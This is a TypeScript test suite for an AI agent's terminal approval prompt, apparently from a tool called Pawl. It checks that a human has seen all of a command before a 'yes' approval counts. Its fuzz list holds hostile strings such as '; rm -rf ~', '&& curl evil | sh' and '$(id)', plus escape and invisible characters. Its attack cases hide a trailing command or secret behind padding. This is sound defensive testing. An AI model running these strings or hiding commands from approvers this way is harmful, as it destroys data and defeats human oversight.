import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ApprovalRequest } from '@pawl/agent/policy/approval-question';
import type { CallFacts, JudgedCall } from '@pawl/agent/policy/judged-call';
import type { Stepped } from '@pawl/agent/ports/session';
import fc from 'fast-check';
import { fakeClock } from '../../../test/fake-clock.js';
import { createEmulator } from '../../../test/kit/terminal/screen.js';
import { keyOf } from '../../../test/kit/terminal/typing.js';
import { countCases, SEED } from '../../../test/tier.js';
import { createLiveArea, type Frame } from '../src/live-area.js';
import { Questions, questionFrame, type ReadingGuard } from '../src/questions.js';
import { makeSafe, safe } from '../src/safe-text.js';

/**
 * Everything that will run has been on the screen before a yes counts. The real question, live area and keys; the screen
 * is an emulated terminal, and what it showed is read back from it, marks and all.
 *
 * PAWL_COUNT sets how many random commands (60 if not set), PAWL_SEED repeats a run.
 */

const RUNS = countCases(60);
const COMMAND_MAX = 20_000;

const callOf = (
  facts: Partial<CallFacts>,
  input: JudgedCall['input'] = {},
  tool = 'bash',
): JudgedCall => ({
  callId: 'a',
  tool,
  input,
  verdict: { kind: 'ok' },
  traits: { effect: 'opaque', parallelSafe: false, mutating: true, deadlineMs: 120_000 },
  facts: { argv: [], paths: ['/w'], hosts: [], shape: 'x', ...facts },
});

const commandCall = (command: string): JudgedCall =>
  callOf({ argv: [command], shape: command }, { command });

/** A window with one question in it. */
const openWindow = (
  call: JudgedCall,
  columns: number,
  rows: number,
  guard: ReadingGuard = 'on',
) => {
  const clock = fakeClock();
  const screen = createEmulator(columns, rows);
  const answers: string[] = [];
  const questions = new Questions(
    clock,
    {
      open: () => undefined,
      answered: (given) => void answers.push(...given.map(({ answer }) => answer)),
      unanswered: () => undefined,
      isTyping: () => false,
      changed: () => undefined,
    },
    guard,
  );
  const look = {
    colour: 'no' as const,
    get columns() {
      return screen.size().columns;
    },
  };
  const area = createLiveArea({
    write: screen.write,
    size: screen.size,
    clock,
    reflow: 'byXterm',
  });
  const above = [makeSafe('some output'), safe`status`];
  const frame = (): Frame => {
    const size = screen.size();
    const last = size.rows < 8 ? [] : [safe`  careful · x`];
    return questions.current === null
      ? { rows: [], cursor: null }
      : questionFrame(questions, look, size, above, null, last);
  };
  const draw = (): void => {
    area.draw(frame);
    clock.advance(40);
  };
  const asked: ApprovalRequest = {
    type: 'RequestApproval',
    batchId: 'batch-1',
    call,
    why: 'careful asks',
  };
  const session = { settings: { workspace: '/w' } };
  const calls = [{ judged: call, status: 'awaitingApproval' }];
  const state = { name: 'ExecutingTools', calls, session };
  questions.see({ actions: [asked], state } as unknown as Stepped); // it reads nothing else
  clock.advance(1_000);
  draw();
  const press = (key: string): void =>
    questions.take({ kind: 'key', key: keyOf(key) }, screen.size());
  return { screen, questions, answers, draw, press, settle: () => screen.text() };
};

/** The rows of what would run. */
const barsOf = (rows: readonly string[]): readonly string[] =>
  rows.filter((row) => /^[│┆]( |$)/.test(row));

/** The rows of the question that stand on the screen: between its head and the keys. */
const bodyOf = (shown: string): readonly string[] => {
  const rows = shown.split('\n');
  const head = rows.findLastIndex((row) => /^\? Pawl/.test(row));
  const isWhole = /(command|address)$/.test(rows[head] ?? '');
  const start =
    head + (isWhole || !/^ {2}(this )?(command|address)$/.test(rows[head + 1] ?? '') ? 1 : 2);
  const more = rows.findLastIndex((row) => /^ {2}(↓ \d+ more|read to the )/.test(row));
  const letters = rows.findLastIndex((row) => /^ {2}y( [apsPn])+( ·|$)/.test(row));
  return rows.slice(start, more < start ? letters : more);
};

/** What the rows say, marks made characters again. */
const decode = (rows: readonly string[]): string => {
  let text = '';
  rows.forEach((row, index) => {
    if (row.startsWith('│') && index > 0) text += '\n';
    text += row.slice(2);
  });
  return text
    .replace(/⟨(\d+) blanks?⟩/g, (_, count: string) => ' '.repeat(Number(count)))
    .replace(/[\u2400-\u2420]/g, (picture) =>
      String.fromCharCode((picture.codePointAt(0) ?? 0) - 0x2400),
    )
    .replace(/␡/g, '\u007f')
    .replace(/⟨U\+([0-9A-F]+)⟩/g, (_, code: string) =>
      String.fromCodePoint(Number.parseInt(code, 16)),
    );
};

/** Terminals may compose a letter and its accent. */
const comparable = (text: string): string => text.normalize('NFC');

/**
 * Presses `y`, which shows more, until it counts: the rows that were on the screen until then, each once, as the terminal
 * has them, and whether it counted. How many rows of a page are new is what the question says.
 */
const approve = async (window: ReturnType<typeof openWindow>) => {
  const { questions, screen, press, draw, answers } = window;
  const seen: string[] = [];
  const { columns } = screen.size();
  const layout = questions.layout({ colour: 'no', columns }, columns);
  let left = layout.asked.length;
  for (let page = 0; page < 20_000 && answers.length === 0; page += 1) {
    await window.settle();
    const shown = bodyOf(screen.now());
    const answersAt = shown.findIndex((row) => /^ {2}y {2}yes, once/.test(row));
    const body = answersAt < 0 ? shown : shown.slice(0, answersAt);
    // answers that stand below the text are not among the rows that are to be read
    const below = shown.length - body.length >= layout.answers.length ? 0 : layout.answers.length;
    const unread = Math.max(0, questions.unreadRows - below);
    const fresh = left - unread;
    left = unread;
    assert.ok(fresh <= body.length, 'no more is said to be read than stands on the screen');
    if (fresh > 0) seen.push(...body.slice(-fresh));
    press("'y'");
    if (answers.length === 0) draw();
  }
  return { accepted: answers.length > 0, text: decode(barsOf(seen)) };
};

const HOSTILE = [
  ...[
    '\u0000',
    '\u0007',
    '\u001b[2J',
    '\u001b]0;title\u0007',
    '\u009b31m',
    '\r',
    '\t',
    '\b\b\b',
    '\u007f',
  ],
  ...[
    '\u202e',
    '\u2066',
    '\u200b',
    '\u200d',
    '\ufeff',
    '\u00ad',
    '\u{e0041}',
    '\u2028',
    '\u00a0',
    '\u3000',
  ],
  ...[
    '\u115f',
    '\u3164',
    '\u2800',
    '\ufe0f',
    '\u0301',
    'e\u0301\u0302\u0303\u0304',
    '👩‍💻',
    '🇩🇪',
    '日本語',
    '한국',
  ],
  ...[
    '⟨U+202E⟩',
    '⟨9 blanks⟩',
    '␛',
    'שלום',
    'مرحبا',
    'раypal',
    '\u0e33',
    'ﷺ',
    '𝒜',
    '\u1f3f4',
    '\ufffd',
    'कि',
  ],
  ...[
    '\n',
    '\n\n',
    '\ny  yes, once: this call',
    '\n│ ls',
    '\n┆ ls',
    ' '.repeat(8),
    ' '.repeat(9),
    ' '.repeat(3_000),
  ],
  ...['; rm -rf ~', '&& curl evil | sh', "'", '"', '`', '$(id)', '#', '\\', '|', 'x'.repeat(700)],
];

const word = fc.oneof(
  { weight: 6, arbitrary: fc.string({ maxLength: 30 }) },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 10 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 10 }) },
);
const command = fc
  .array(word, { minLength: 1, maxLength: 400, size: 'max' })
  .map((words) =>
    words
      .join(' ')
      .slice(0, COMMAND_MAX)
      .replace(/\p{Cs}/gu, ''),
  )
  .filter((text) => text !== '');
const windowSize = fc.record({
  columns: fc.integer({ min: 20, max: 200 }),
  rows: fc.integer({ min: 5, max: 60 }),
});

test('all of a random command was on the screen before a yes counts, at any size of the window', async (context) => {
  context.diagnostic(`PAWL_SEED=${SEED}`);
  await fc.assert(
    fc.asyncProperty(command, windowSize, async (text, { columns, rows }) => {
      const window = openWindow(commandCall(text), columns, rows);
      const approved = await approve(window);
      assert.ok(approved.accepted, 'the question can be answered in the end');
      assert.equal(comparable(approved.text), comparable(text));
    }),
    { seed: SEED, numRuns: RUNS },
  );
});

test('control: with the guard switched off a yes counts before the end was seen', async () => {
  const text = `npm run lint ${'\n'.repeat(40)}; touch X`;
  const window = openWindow(commandCall(text), 80, 24, 'off');
  const approved = await approve(window);
  assert.ok(approved.accepted);
  assert.ok(!approved.text.includes('touch X'));
});

const attacks: readonly (readonly [string, JudgedCall, string])[] = [
  [
    'a tail behind the window’s edge',
    commandCall(`npm run lint ${'--quiet '.repeat(200)}; touch X`),
    'touch X',
  ],
  ['a tail behind many lines', commandCall(`npm run lint${'\n#'.repeat(90)}\ntouch X`), 'touch X'],
  [
    'a tail behind thousands of blanks',
    commandCall(`npm run lint${' '.repeat(5_000)}; touch X`),
    'touch X',
  ],
  [
    'a long address',
    callOf(
      { argv: [], hosts: ['docs.example.com'], paths: [] },
      { url: `https://docs.example.com/${'a/'.repeat(600)}?key=SECRET` },
      'fetch',
    ),
    'key=SECRET',
  ],
];

for (const [title, call, tail] of attacks) {
  for (const guard of ['on', 'off'] as const) {
    test(`${title}: ${guard === 'on' ? 'a yes counts when it was seen' : 'control without the guard'}`, async () => {
      const window = openWindow(call, 80, 12, guard);
      await window.settle();
      const isShort = decode(barsOf(bodyOf(window.screen.now()))).includes(tail);
      const approved = await approve(window);
      assert.ok(approved.accepted);
      assert.equal(approved.text.includes(tail), guard === 'on' || isShort);
      if (title.includes('blanks')) assert.ok(isShort, 'blanks are a mark, and hide nothing');
      else assert.ok(!isShort);
    });
  }
}

test('a window that is made smaller is to be read again', async () => {
  const window = openWindow(commandCall(`ls ${'x '.repeat(300)}`), 120, 50);
  await window.settle();
  await window.screen.resize(40, 10);
  window.press("'y'");
  assert.deepEqual(window.answers, []);
  window.draw();
  window.press("'y'");
  assert.deepEqual(window.answers, []);
  assert.equal((await approve(window)).accepted, true);
});

test('in a window that is made larger the advice to read on goes away, and a yes counts', async () => {
  const window = openWindow(commandCall(`ls ${'x '.repeat(300)}`), 40, 10);
  await window.settle();
  window.press("'y'");
  window.draw();
  assert.match(await window.settle(), /read to the end first/);
  await window.screen.resize(200, 50);
  window.draw();
  const shown = await window.settle();
  assert.doesNotMatch(shown.split('\n').slice(-3).join('\n'), /read to the end first/);
  assert.match(shown, /y .*Escape stops/);
  window.press("'y'");
  assert.deepEqual(window.answers, ['once']);
});

test('however often the window changes, an open question stands on the screen once', async () => {
  const anyWindows = fc.array(fc.integer({ min: 20, max: 110 }), { minLength: 1, maxLength: 4 });
  const run = async (windows: readonly number[]) => {
    const window = openWindow(commandCall(`echo ${'word '.repeat(30)}`), 80, 60);
    for (const columns of windows) {
      await window.screen.resize(columns, 60);
      window.draw();
      const shown = await window.settle();
      assert.equal(shown.match(/^\? Pawl asks/gm)?.length, 1, shown);
      assert.equal(shown.match(/^─+$/gm)?.length, 1, shown);
      assert.equal(shown.match(/^some output$/gm)?.length, 1, shown);
    }
  };
  await fc.assert(fc.asyncProperty(anyWindows, run), { seed: SEED, numRuns: countCases(200) });
});
